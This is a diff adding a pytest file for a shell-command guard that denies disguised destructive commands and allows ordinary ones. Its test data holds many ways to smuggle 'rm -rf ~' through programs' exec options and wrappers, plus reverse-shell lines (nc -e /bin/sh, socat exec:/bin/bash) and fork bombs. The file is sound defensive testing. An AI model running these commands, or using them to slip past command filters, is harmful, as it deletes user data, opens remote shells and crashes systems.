@@ -1,0 +1,159 @@
+"""The string layer looks through disguises: wrappers it was not told about before, programs' own "run this"
+options, words bash splits, sourced data and fork bombs without a loop keyword. Each class is judged on the text
+that runs, and ordinary uses of the same programs stay allowed. (The stdin forms: test_stdin_code.py.)"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+
+import pytest
+
+from mcp_server_guard.policy import load_policy
+from mcp_server_guard.shell.rules import PolicyEngine
+from support import console_script
+
+ENGINE = PolicyEngine(load_policy().shell_exec)  # rules as written (no copy): `rm -rf ~` is denied by its rule
+
+PAYLOAD = "rm -rf ~"
+RUN_THIS_OPTIONS = [
+    f"git rebase -x '{PAYLOAD}' HEAD~3",
+    f"git rebase --exec='{PAYLOAD}' main",
+    f"git submodule foreach '{PAYLOAD}'",
+    f"git submodule foreach --recursive {PAYLOAD}",
+    f"git filter-branch --tree-filter '{PAYLOAD}' HEAD",
+    f"gdb -batch -ex 'shell {PAYLOAD}'",
+    f"gdb -nx -ex '!{PAYLOAD}' -ex quit",
+    f"vim -E -s -c '!{PAYLOAD}' -c q",
+    f"nvim --headless +'silent !{PAYLOAD}' +q",
+    f"sed '1e {PAYLOAD}' notes.txt",
+    f"sed -n '/x/e {PAYLOAD}' notes.txt",
+    f"sed --expression='$e {PAYLOAD}' notes.txt",
+    f"zip -TT '{PAYLOAD}' a.zip notes.txt",
+    f"zip a.zip notes.txt -T --unzip-command='{PAYLOAD}'",
+    f"rsync -e 'sh -c \"{PAYLOAD}\"' a host:b",
+    f"rsync --rsh='{PAYLOAD}' a host:b",
+    f"socat exec:'sh -c \"{PAYLOAD}\"' -",
+    f"socat - system:'{PAYLOAD}'",
+    f"awk 'BEGIN {{ system(\"{PAYLOAD}\") }}'",
+    f"awk 'BEGIN {{ \"{PAYLOAD}\" | getline x }}'",
+    f"gawk 'BEGIN {{ print \"y\" | \"{PAYLOAD}\" }}'",
+    f"python3 -c 'import os; os.system(\"{PAYLOAD}\")'",
+    f"python3 -c 'import subprocess; subprocess.run(\"{PAYLOAD}\", shell=True)'",
+    f"perl -e 'system(\"{PAYLOAD}\")'",
+    f"perl -e 'qx({PAYLOAD})'",
+    f"ruby -e '`{PAYLOAD}`'",
+    f"node -e 'require(\"child_process\").execSync(\"{PAYLOAD}\")'",
+    f"less +'!{PAYLOAD}' notes.txt",
+    f"hyperfine '{PAYLOAD}'",
+]
+
+
+@pytest.mark.parametrize("line", RUN_THIS_OPTIONS)
+def test_a_programs_run_this_option_is_judged_on_the_text_it_runs(line: str) -> None:
+    verdict = ENGINE.decide(line)
+    assert (verdict.action, verdict.rule) == ("deny", "rm-recursive-force"), verdict
+
+
+UNDECIDABLE_RUNS = [
+    "sed 's/.*/id/e' notes.txt",
+    "awk '{ system($0) }' notes.txt",
+    "gdb -batch -ex 'python import os'",
+    "vim -c 'call system(g:x)' notes.txt",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "ncat --sh-exec \"$CMD\" 10.0.0.1 4444",
+    "socat tcp:10.0.0.1:4444 exec:/bin/bash",
+    "IFS=,; c=rm,-rf,x; $c",
+    ". ./notes",
+    "source helpers.txt",
+]
+
+
+@pytest.mark.parametrize("line", UNDECIDABLE_RUNS)
+def test_text_run_that_the_layer_cannot_read_is_asked(line: str) -> None:
+    assert ENGINE.decide(line).action in ("ask", "deny")
+
+
+WRAPPERS_AND_SPLITTING = [
+    f"setarch x86_64 {PAYLOAD}",
+    f"setarch x86_64 -R {PAYLOAD}",
+    f"setsid -f {PAYLOAD}",
+    f"setsid -w -f {PAYLOAD}",
+    f"linux32 {PAYLOAD}",
+    f"faketime '2020-01-01' {PAYLOAD}",
+    f"eatmydata {PAYLOAD}",
+    f"gosu root {PAYLOAD}",
+    f"xvfb-run -a {PAYLOAD}",
+    f"time -o t.txt {PAYLOAD}",
+    f"trap -- '{PAYLOAD}' EXIT",
+    f"xargs -0i sh -c '{PAYLOAD} {{}}'",
+    f"xargs -0I{{}} {PAYLOAD}",
+    f"sg wheel -c '{PAYLOAD}'",
+    f"x='{PAYLOAD}'; $x",
+    f"env -S '{PAYLOAD}'",
+]
+
+
+@pytest.mark.parametrize("line", WRAPPERS_AND_SPLITTING)
+def test_wrappers_and_words_bash_splits_are_looked_through(line: str) -> None:
+    verdict = ENGINE.decide(line)
+    assert verdict.action == "deny", verdict
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "perl -e '{fork; redo}'",
+        "perl -e 'L: fork; goto L'",
+        "ruby -e 'def f; fork; f; end; f'",
+        "python3 -c 'import os\ndef f():\n    os.fork(); f()\nf()'",
+        "ruby -e '1.times { fork } while true'",
+    ],
+)
+def test_fork_bombs_without_a_loop_keyword_are_denied(line: str) -> None:
+    assert ENGINE.decide(line).rule == "fork-bomb"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "awk '{print $1}' data.csv",
+        "awk -F, '{s+=$2} END {print s}' data.csv",
+        "sed -n '1,20p' notes.txt",
+        "sed -i 's/old/new/g' src/app.py",
+        "sed -e 's/e/E/' notes.txt",
+        "git rebase main",
+        "git rebase -i --autosquash main",
+        "git submodule update --init --recursive",
+        "gdb -batch -ex bt ./app core",
+        "vim -c ':wq' notes.txt",
+        "rsync -avz -e ssh src/ host:dst/",
+        "zip -r out.zip src",
+        "python3 -c 'print(1)'",
+        "python3 -c 'import subprocess; subprocess.run([\"ls\"])'",
+        "source .venv/bin/activate && pytest -q",
+        ". ~/.cargo/env",
+        "while IFS= read -r line; do echo \"$line\"; done < notes.txt",
+        "IFS=$'\\n'; for f in $(ls); do echo \"$f\"; done",
+        "nice -n 10 make -j2",
+        "time make",
+    ],
+)
+def test_ordinary_uses_of_the_same_programs_stay_allowed(line: str) -> None:
+    assert ENGINE.decide(line).action == "allow", ENGINE.decide(line)
+
+
+@pytest.mark.parametrize(
+    ("line", "decision"),
+    [
+        (f"setarch x86_64 {PAYLOAD}", "deny"),
+        (f"git rebase -x '{PAYLOAD}' main", "deny"),
+        ("nc -e /bin/sh 10.0.0.1 4444", "ask"),
+        ("awk '{print $1}' data.csv", "allow"),
+    ],
+)
+def test_mcp_guard_check_reports_the_disguised_command(line: str, decision: str) -> None:
+    done = subprocess.run(
+        [console_script("mcp-guard"), "check", "--json", line], capture_output=True, text=True, timeout=60, check=False
+    )
+    assert json.loads(done.stdout)["decision"] == decision, done.stdout + done.stderr
